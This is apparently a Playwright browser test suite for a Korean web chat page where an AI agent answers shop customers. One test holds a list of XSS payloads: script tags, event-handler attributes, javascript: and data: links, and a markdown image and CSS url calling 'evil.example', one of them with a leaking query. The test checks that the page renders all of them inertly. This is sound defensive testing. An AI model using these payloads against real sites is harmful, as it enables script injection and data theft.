"""The chat page in Chromium, against the real server and adapter; only the gateway is a stand-in."""

from __future__ import annotations

import asyncio
import re
from collections import defaultdict
from collections.abc import AsyncIterator, Sequence
from dataclasses import replace

import pytest
from playwright.async_api import Browser, BrowserContext, Page, expect

from adapters.webchat import TEXTS, WebChat
from bot.web.server import Server, build_server, page_texts
from brain.messages import Action, Address, Choice, Draft, Event, Reply, Source

pytestmark = pytest.mark.browser

QUESTION = "환불은 며칠 안에 해야 하나요?"
ANSWER = Reply(
    id="turn-1",
    in_reply_to="",
    text="고객님, **구매일로부터 14일 이내**에 신청하실 수 있습니다.\n\n1. 주문 내역에서 상품 선택\n2. 환불 신청",
    kind="answer",
    sources=(
        Source(document="policies/refund.md", heading="교환·환불 > 신청 기간", score=1.0),
        Source(document="faq.yaml", heading="환불", score=0.6),
    ),
    choices=(Choice(label="배송비 문의", text="반품 배송비는 얼마인가요?"),),
)


class Desk:
    """Takes events as a gateway does and answers each message with the next reply it was given."""

    def __init__(self) -> None:
        self.replies: list[Reply] = []
        self.events: list[Event] = []
        self.refusing = False
        self.may_finish = asyncio.Event()
        self.turns: defaultdict[Address, list[tuple[str, Reply]]] = defaultdict(list)
        texts = {name: name.removeprefix("web.") for name in (*TEXTS, *page_texts())} | {
            "web.notice": "AI 상담원이 답변합니다.",
            "web.error_too_long": "{longest}자까지 보내실 수 있습니다.",
        }
        self.chat = WebChat(history=self.history, texts=texts)
        self.server = Server(
            build_server(
                routes=self.chat.routes(),
                texts=texts,
                company="테크마켓 <b>",
                longest=self.chat.longest,
                ready=dict,
            )
        )
        self.address = ""
        self._running: list[asyncio.Task[None]] = []

    async def start(self, port: int = 0) -> None:
        self._running.append(asyncio.create_task(self.chat.run(self.accept)))
        port = await self.server.start("127.0.0.1", port)
        self.address = f"http://127.0.0.1:{port}/"

    async def stop(self) -> None:
        for task in self._running:
            task.cancel()
        await asyncio.gather(*self._running, return_exceptions=True)
        await self.server.stop()

    async def history(self, address: Address) -> Sequence[tuple[str, Reply]]:
        return self.turns[address]

    async def accept(self, event: Event) -> None:
        if self.refusing:
            raise OSError("disk full")
        if event.id in {known.id for known in self.events}:
            return
        self.events.append(event)
        if not isinstance(event, Action) and self.replies:
            reply = replace(self.replies.pop(0), in_reply_to=event.id)
            self._running.append(asyncio.create_task(self.answer(event.address, event.text, reply)))

    async def answer(self, address: Address, words: str, reply: Reply) -> None:
        for end in range(4, len(reply.text) // 2, 4):
            await self.chat.show(address, Draft(text=reply.text[:end]))
            await asyncio.sleep(0.01)
        await self.may_finish.wait()
        self.turns[address].append((words, reply))
        await self.chat.deliver(address, reply)


@pytest.fixture
async def desk() -> AsyncIterator[Desk]:
    desk = Desk()
    await desk.start()
    yield desk
    await desk.stop()


async def visit(customer: BrowserContext, desk: Desk) -> Page:
    page = await customer.new_page()
    await page.goto(desk.address)
    await expect(page.locator("#state")).to_have_attribute("data-state", "online")
    return page


async def test_question_is_answered_with_sources_and_survives_a_reload(
    customer: BrowserContext, desk: Desk
) -> None:
    desk.replies = [ANSWER]
    page = await visit(customer, desk)
    problems: list[str] = []
    page.on("console", lambda message: problems.append(message.text))
    page.on("pageerror", lambda error: problems.append(error.message))
    await expect(page.locator(".notice").first).to_have_text("AI 상담원이 답변합니다.")
    await expect(page.locator(".mark").first).to_have_text("테")
    await page.get_by_role("textbox").fill(QUESTION)
    await page.keyboard.press("Enter")

    await expect(page.locator("#draft .words")).to_contain_text("구매일로부터")
    await expect(page.get_by_role("log").locator(".theirs")).to_have_count(0)
    desk.may_finish.set()
    reply = page.get_by_role("log").locator(".theirs")
    await expect(reply.locator("strong")).to_have_text("구매일로부터 14일 이내")
    await expect(page.locator("#draft")).to_be_hidden()
    await expect(reply.locator("ol li")).to_have_count(2)
    await reply.locator("summary").click()
    await expect(reply.locator(".sources li").first).to_contain_text("교환·환불 › 신청 기간")
    await expect(reply.locator(".sources .document").first).to_have_text("policies/refund.md")

    await page.get_by_role("button", name="feedback_up").click()
    await expect(reply.locator(".thanks")).to_have_text("thanks")
    vote = desk.events[-1]
    assert isinstance(vote, Action)
    assert (vote.kind, vote.value, vote.about) == ("feedback", "up", "turn-1")

    await page.reload()
    await expect(page.locator(".mine .bubble")).to_have_text([QUESTION])
    await expect(page.get_by_role("log").locator(".theirs strong")).to_have_count(1)
    await page.get_by_role("button", name="배송비 문의").click()
    await expect(page.locator(".mine .bubble")).to_have_text(
        [QUESTION, "반품 배송비는 얼마인가요?"]
    )
    assert problems == []


async def test_a_reload_in_the_middle_of_an_answer_gets_the_answer(
    customer: BrowserContext, desk: Desk
) -> None:
    desk.replies = [ANSWER]
    page = await visit(customer, desk)
    await page.get_by_role("textbox").fill(QUESTION)
    await page.keyboard.press("Enter")
    await expect(page.locator("#draft .words")).to_contain_text("구매일로부터")
    await page.reload()
    await expect(page.locator(".mine .bubble")).to_have_text([QUESTION])
    await expect(page.locator("#draft .dots")).to_be_visible()
    desk.may_finish.set()
    await expect(page.get_by_role("log").locator(".theirs")).to_have_count(1)
    await expect(page.locator(".mine")).to_have_count(1)
    await expect(page.locator("#draft")).to_be_hidden()


async def test_messages_wait_out_a_restart_and_a_refusal(
    customer: BrowserContext, desk: Desk
) -> None:
    page = await visit(customer, desk)
    port = int(desk.address.rstrip("/").rpartition(":")[2])
    await desk.stop()
    await expect(page.locator("#state")).to_have_attribute("data-state", "offline")
    await page.get_by_role("textbox").fill("서버가 꺼졌을 때 쓴 말")
    await page.keyboard.press("Enter")
    await expect(page.locator(".mine .status")).to_have_text("sending")

    again = Desk()
    again.refusing = True
    await again.start(port)
    try:
        await expect(page.locator(".mine .status")).to_have_text("failed")
        await expect(page.get_by_role("alert")).to_have_text("error_not_accepted")
        again.refusing = False
        await page.get_by_role("button", name="retry").click()
        await expect(page.locator(".mine .status")).to_have_text("")
        assert [getattr(event, "text", "") for event in again.events] == ["서버가 꺼졌을 때 쓴 말"]
    finally:
        await again.stop()


async def test_second_tab_sees_what_the_first_one_does(
    customer: BrowserContext, desk: Desk
) -> None:
    desk.replies = [ANSWER]
    desk.may_finish.set()
    first = await visit(customer, desk)
    second = await visit(customer, desk)
    await first.get_by_role("textbox").fill(QUESTION)
    await first.keyboard.press("Enter")
    for page in (first, second):
        await expect(page.locator(".mine .bubble")).to_have_text([QUESTION])
        await expect(page.get_by_role("log").locator(".theirs")).to_have_count(1)


PAYLOADS = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg onload=window.hacked=1>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "[누르세요](javascript:window.hacked=1)",
    "[누르세요](data:text/html,<script>alert(1)</script>)",
    "[누르세요](https://shop.example@evil.example/)",
    "![x](https://evil.example/leak?data=secret)",
    "**<b onmouseover=window.hacked=1>굵게</b>**",
    "`<style>*{background:url(https://evil.example)}</style>`",
    '" autofocus onfocus="window.hacked=1',
    "</template></div><script>window.hacked=1</script>",
]


async def test_markup_of_others_is_shown_as_text_and_loads_nothing(
    customer: BrowserContext, desk: Desk
) -> None:
    nasty = "\n\n".join(PAYLOADS)
    desk.replies = [
        Reply(
            id="turn-x",
            in_reply_to="",
            text=nasty + "\n\n[안내](https://shop.example/help)",
            kind="answer",
            sources=(Source(document=PAYLOADS[1], heading=PAYLOADS[0], score=1.0),),
            choices=(Choice(label=PAYLOADS[1], text=PAYLOADS[0]),),
            author=PAYLOADS[2],
        )
    ]
    desk.may_finish.set()
    page = await visit(customer, desk)
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    await page.get_by_role("textbox").fill(PAYLOADS[0])
    await page.keyboard.press("Enter")
    bubble = page.get_by_role("log").locator(".theirs .bubble")
    for payload in PAYLOADS[:4]:
        await expect(bubble).to_contain_text(payload)
    await expect(page.locator(".mine .bubble")).to_have_text(PAYLOADS[0])
    links = bubble.locator("a")
    await expect(links).to_have_count(1)
    await expect(links).to_have_attribute("href", "https://shop.example/help")
    await expect(links).to_have_attribute("rel", re.compile("noopener"))
    await expect(bubble).to_contain_text("안내 (shop.example)")
    assert await page.evaluate("window.hacked") is None
    assert await page.locator("#log :is(script, img, iframe, style, svg[onload])").count() == 0
    assert requests == []


async def test_hangul_being_composed_is_not_sent(customer: BrowserContext, desk: Desk) -> None:
    page = await visit(customer, desk)
    box = page.get_by_role("textbox")
    await box.focus()
    keyboard = await customer.new_cdp_session(page)
    await keyboard.send(
        "Input.imeSetComposition", {"text": "안녕", "selectionStart": 2, "selectionEnd": 2}
    )
    await box.dispatch_event("keydown", {"key": "Enter", "isComposing": True})
    await box.dispatch_event("keydown", {"key": "Enter", "keyCode": 229})
    await expect(page.locator(".mine")).to_have_count(0)
    await keyboard.send("Input.insertText", {"text": "안녕"})
    await page.keyboard.press("Shift+Enter")
    await page.keyboard.type("하세요")
    await page.keyboard.press("Enter")
    await expect(page.locator(".mine .bubble")).to_have_text(["안녕\n하세요"], use_inner_text=True)
    await expect(box).to_have_value("")


async def test_too_long_text_stays_with_the_customer(customer: BrowserContext, desk: Desk) -> None:
    page = await visit(customer, desk)
    box = page.get_by_role("textbox")
    await box.fill("가" * 4001)
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("alert")).to_have_text("4,000자까지 보내실 수 있습니다.")
    await expect(page.locator("#count")).to_have_text("4,001 / 4,000")
    await expect(page.locator(".mine")).to_have_count(0)
    await page.keyboard.press("Backspace")
    await expect(page.get_by_role("alert")).to_have_text("")
    await page.keyboard.press("Enter")
    await expect(page.locator(".mine")).to_have_count(1)
    await expect(page.locator(".mine .status")).to_have_text("")
    assert [len(getattr(event, "text", "")) for event in desk.events] == [4000]


async def test_nothing_overflows_a_phone(chromium: Browser, desk: Desk) -> None:
    wide = "https://shop.example/" + "a" * 300 + "\n\n" + "W" * 300 + "\n\n" + "`" + "x" * 200 + "`"
    desk.replies = [replace(ANSWER, text=wide)]
    desk.may_finish.set()
    phone = await chromium.new_context(
        viewport={"width": 390, "height": 700}, has_touch=True, is_mobile=True
    )
    page = await visit(phone, desk)
    await page.get_by_role("textbox").fill("W" * 200)
    await page.get_by_role("button", name="send").click()
    await expect(page.get_by_role("log").locator(".theirs")).to_have_count(1)
    for width in (390, 360, 320):
        await page.set_viewport_size({"width": width, "height": 700})
        overflowing = await page.evaluate(
            """[...document.querySelectorAll("body *")].filter((element) => !element.closest(".unseen, .skip")
                && element.getBoundingClientRect().right > innerWidth + 1).map((element) => element.className)"""
        )
        assert overflowing == []
        assert await page.evaluate("[innerWidth, document.documentElement.scrollWidth]") == [
            width,
            width,
        ]
        await expect(page.locator("#send")).to_be_in_viewport()
    await phone.close()


async def test_page_works_with_keyboard_and_screen_reader(
    customer: BrowserContext, desk: Desk
) -> None:
    page = await visit(customer, desk)
    await expect(page.get_by_role("log")).to_have_attribute("aria-live", "polite")
    await expect(page.get_by_label("label", exact=True)).to_be_focused()
    unnamed = await page.evaluate(
        """[...document.querySelectorAll("button, textarea, main")].filter((element) => !element.hidden
            && !element.textContent.trim() && !element.ariaLabel && !element.labels?.length).length"""
    )
    assert unnamed == 0
    assert await page.evaluate("document.querySelectorAll('#draft [aria-live]').length") == 0
    await page.locator(".skip").focus()
    await expect(page.locator(".skip")).to_be_in_viewport()
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("textbox")).to_be_focused()


async def test_widget_opens_the_chat_on_another_page(customer: BrowserContext, desk: Desk) -> None:
    page = await customer.new_page()
    # A shop's page on the same site; other sites are named in the configuration.
    await page.route(
        "**/shop",
        lambda route: route.fulfill(
            content_type="text/html",
            body='<!doctype html><title>shop</title><body><script src="/widget.js"></script>',
        ),
    )
    await page.goto(desk.address + "shop")
    await page.get_by_role("button", name="widget_open").click()
    chat = page.frame_locator("iframe")
    await expect(chat.locator("#state")).to_have_attribute("data-state", "online")
    await chat.get_by_role("button", name="close").click()
    await expect(page.locator("iframe")).to_be_hidden()
    await expect(page.get_by_role("button", name="widget_open")).to_be_focused()
